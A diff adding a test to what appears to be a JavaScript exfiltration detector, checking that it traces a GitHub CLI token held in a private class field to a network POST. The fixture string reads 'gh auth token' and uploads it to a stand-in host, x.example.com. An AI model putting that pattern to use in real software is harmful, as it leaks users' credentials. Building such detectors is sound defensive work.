@@ -35,6 +35,14 @@ describe('correlation: exfiltration', () => {
     assert.deepEqual(only('exfiltration', emailSent).map(f => `${f.line} ${f.severity} ${f.message}`), ['2 medium Sends git user.email in a network request to api.example.com']);
   });
 
+  // Claude Code 2.1.200 (review 90): /web-setup keeps the `gh auth token` output in a class with a private field and posts `token.reveal()`.
+  it("follows a method call to the class of the instance that reaches its receiver, and private fields (this.#e)", () => {
+    const code = 'const{execSync}=require("child_process");class Secret{#e;constructor(e){this.#e=e}reveal(){return this.#e}toJSON(){return "[REDACTED]"}}async function read(){const n=execSync("gh auth token").toString().trim();if(!n)return{status:"none"};return{status:"ok",token:new Secret(n)}}async function upload(e){return fetch("https://x.example.com/import-token",{method:"POST",body:JSON.stringify({token:e.reveal()})})}async function setup(){const a=await read();if(a.status!=="ok")return;return upload(a.token)}';
+    assert.deepEqual(only('exfiltration', code).map(f => `${f.severity} ${f.message}`), ['high Sends GitHub CLI token (gh auth token) in a network request to x.example.com']);
+    const other = code.replace('async function upload(e){', 'class Label{reveal(){return "label"}}async function upload(e0){const e=new Label();');
+    assert.deepEqual(only('exfiltration', other), [], "another class's method of the same name, on an instance of that class");
+  });
+
   // Claude Code 2.1.25 (review 82): `git config --get user.email` run with an argument list through a spawn wrapper, then posted with the gh login.
   it("follows a named source in a program's argument list: execFileSync, a spawn wrapper's stdout chunks, Promise.all's elements", () => {
     const code = [
